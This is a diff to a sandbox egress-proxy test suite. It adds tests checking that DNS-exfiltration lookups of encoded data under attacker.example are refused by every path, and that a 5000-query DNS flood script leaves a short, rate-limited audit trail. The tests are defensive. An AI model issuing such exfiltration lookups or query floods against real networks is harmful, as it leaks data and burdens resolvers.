@@ -284,3 +284,62 @@ def test_a_failing_setup_command_fails_the_create_with_422_and_leaves_nothing(en
     assert "exit 3" in r.json()["detail"] and "broken" in r.json()["detail"]
     live = env["client"].get("/v1/sandboxes", params={"state": "running"}).json()["items"]
     assert not [s for s in live if s["profile"] == "egress-test"], live
+
+
+def test_a_name_only_a_cidr_rule_could_allow_is_denied_before_any_lookup(env):
+    # DNS exfiltration: looking `<data>.attacker.example` up would carry the data to the host's
+    # resolver and beyond. Without the operator's --resolve-for-cidr-rules the proxy refuses the
+    # name before a lookup, by every path: absolute-form, CONNECT, and the sandbox's resolver.
+    sid = make(env, allow=["203.0.113.0/24"])
+    out = sh(env, sid, "curl -sS -m 10 -w '\\n%{http_code}' http://c2VjcmV0.attacker.example/")
+    body, status = out["stdout"].rsplit("\n", 1)
+    assert status == "403", out
+    assert "--resolve-for-cidr-rules" in body, body
+    out = sh(env, sid, "curl -sS -m 10 -p https://c2VjcmV0Mg.attacker.example/")
+    assert out["exit_code"] != 0 and "403" in out["stderr"], out
+    out = sh(env, sid, "getent hosts c2VjcmV0Mw.attacker.example; echo rc=$?")
+    assert "rc=2" in out["stdout"], out  # NXDOMAIN from the sandbox's own resolver
+    env["client"].delete(f"/v1/sandboxes/{sid}")
+
+
+FLOOD = r"""
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(2)
+def query(i, name):
+    q = struct.pack(">HHHHHH", i & 0xFFFF, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\x00" + struct.pack(">HH", 1, 1)
+answered = 0
+for i in range(5000):
+    s.sendto(query(i, ("same" if i % 2 else "u%d" % i) + ".attacker.example"), ("127.0.0.1", 53))
+    try:
+        s.recvfrom(512)
+        answered += 1
+    except socket.timeout:
+        pass
+print(answered)
+"""
+
+
+def test_a_dns_flood_leaves_a_short_audit_trail_that_counts_it(env):
+    # Before: every denied query was a row (12 s of queries: 258,392 rows). Now repeats are
+    # coalesced, the rest is rate-limited and counted in audit.rate_limited.
+    sid = make(env)
+    out = sh(env, sid, f"python3 - <<'PY'\n{FLOOD}\nPY")
+    assert out["exit_code"] == 0, out
+    answered = int(out["stdout"].strip())
+    env["client"].delete(f"/v1/sandboxes/{sid}")
+    r = env["client"].get(f"/v1/sandboxes/{sid}/audit", params={"limit": 10000})
+    assert r.status_code == 200, r.text
+    entries = [json.loads(line) for line in r.text.splitlines() if line]
+    assert len(entries) < 600, len(entries)
+    kinds = [e["kind"] for e in entries]
+    assert "audit.rate_limited" in kinds, kinds[-10:]
+    dns = [e for e in entries if e["kind"] == "egress.deny" and e["detail"].get("via") == "dns"]
+    own = sum(1 for e in dns if "count" not in e["detail"])
+    coalesced = sum(e["detail"]["count"] for e in dns if "count" in e["detail"])
+    dropped = sum(e["detail"]["dropped"] for e in entries if e["kind"] == "audit.rate_limited")
+    assert own + coalesced + dropped == answered, (own, coalesced, dropped, answered)
+    assert kinds[-1] == "sandbox.delete"
